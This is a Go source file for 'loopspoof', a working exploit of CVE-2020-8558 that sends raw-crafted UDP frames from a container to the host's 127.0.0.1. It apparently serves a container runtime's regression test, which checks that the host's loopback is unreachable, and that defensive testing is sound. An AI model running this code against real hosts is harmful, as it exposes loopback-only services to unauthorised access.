//go:build linux

// Command loopspoof is the attack of CVE-2020-8558 from inside a
// container: with CAP_NET_RAW it writes, on eth0, one UDP datagram per
// destination in an Ethernet frame addressed to the gateway's MAC, so that
// the host takes it in even when the destination is its 127.0.0.1 (which
// the container's own routing would keep on its own loopback). The test
// TestContainerCannotReachHostLoopback builds it (in the VM, vmtest passes
// it prebuilt as $BERTH_LOOPSPOOF).
//
//	loopspoof GATEWAY-MAC IP:PORT [IP:PORT]
package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"strconv"

	"golang.org/x/sys/unix"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "loopspoof:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	if len(args) < 2 {
		return fmt.Errorf("usage: loopspoof GATEWAY-MAC IP:PORT [IP:PORT]")
	}
	mac, err := net.ParseMAC(args[0])
	if err != nil || len(mac) != 6 {
		return fmt.Errorf("gateway MAC %q: %v", args[0], err)
	}
	eth0, err := net.InterfaceByName("eth0")
	if err != nil {
		return err
	}
	src, err := ipv4Of(eth0)
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM, int(htons(unix.ETH_P_IP)))
	if err != nil {
		return fmt.Errorf("socket(AF_PACKET): %w", err)
	}
	defer unix.Close(fd)
	to := &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_IP), Ifindex: eth0.Index, Halen: 6}
	copy(to.Addr[:], mac)
	for _, a := range args[1:] {
		host, port, err := net.SplitHostPort(a)
		if err != nil {
			return err
		}
		dst := net.ParseIP(host).To4()
		p, err := strconv.ParseUint(port, 10, 16)
		if dst == nil || err != nil {
			return fmt.Errorf("destination %q: want IPv4:PORT", a)
		}
		if err := unix.Sendto(fd, datagram(src, dst, uint16(p), []byte("loopspoof to "+a)), 0, to); err != nil {
			return fmt.Errorf("send to %s: %w", a, err)
		}
	}
	return nil
}

func ipv4Of(ifc *net.Interface) (net.IP, error) {
	addrs, err := ifc.Addrs()
	if err != nil {
		return nil, err
	}
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil {
			return n.IP.To4(), nil
		}
	}
	return nil, fmt.Errorf("%s has no IPv4 address", ifc.Name)
}

// datagram is an IPv4 header and a UDP header (checksum 0: none, which
// IPv4 allows) before the payload.
func datagram(src, dst net.IP, port uint16, payload []byte) []byte {
	udpLen := 8 + len(payload)
	b := make([]byte, 20+udpLen)
	b[0] = 0x45 // version 4, 5 words of header
	binary.BigEndian.PutUint16(b[2:], uint16(len(b)))
	b[8] = 64 // TTL
	b[9] = unix.IPPROTO_UDP
	copy(b[12:16], src)
	copy(b[16:20], dst)
	binary.BigEndian.PutUint16(b[10:], checksum(b[:20]))
	binary.BigEndian.PutUint16(b[20:], 40000)
	binary.BigEndian.PutUint16(b[22:], port)
	binary.BigEndian.PutUint16(b[24:], uint16(udpLen))
	copy(b[28:], payload)
	return b
}

func checksum(h []byte) uint16 {
	var sum uint32
	for i := 0; i < len(h); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(h[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }
